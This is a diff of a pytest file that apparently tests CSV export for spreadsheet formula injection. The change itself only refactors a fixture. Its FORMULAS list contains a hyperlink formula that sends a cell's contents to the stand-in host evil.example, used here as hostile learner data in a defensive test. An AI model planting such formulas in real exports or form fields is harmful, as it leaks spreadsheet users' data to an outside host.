@@ -15,7 +15,7 @@ import pytest
 
 from edge_server.base import csv_writer
 from tests.conftest import form_csrf
-from tests.learning_catalog import LESSON, QUIZ, RIGHT, ev, make_catalog, post_events
+from tests.learning_catalog import LESSON, QUIZ, RIGHT, ev, post_events
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -52,6 +52,7 @@ def _sign_in_site(client, user, password: str = "lotus-pond-7") -> None:
 
 def _site_with_hostile_learner(request, name: str):
     """A cohort whose learner is named ``name`` and has events, and its instructor."""
+    make_catalog = request.getfixturevalue("make_catalog")
     make_user = request.getfixturevalue("make_user")
     make_cohort = request.getfixturevalue("make_cohort")
     client = request.getfixturevalue("client")
